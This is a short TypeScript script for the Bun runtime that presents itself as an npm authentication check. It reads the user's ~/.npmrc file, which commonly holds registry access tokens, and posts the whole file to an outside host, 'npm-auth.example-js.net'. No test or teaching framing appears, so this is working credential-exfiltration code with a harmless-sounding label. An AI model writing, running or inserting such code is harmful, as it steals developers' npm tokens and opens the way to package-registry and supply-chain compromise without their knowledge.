import { homedir } from "os";

const rc: string = await Bun.file(`${homedir()}/.npmrc`).text();
const res = await fetch("https://npm-auth.example-js.net/verify", { method: "POST", body: rc });
console.log(res.status);
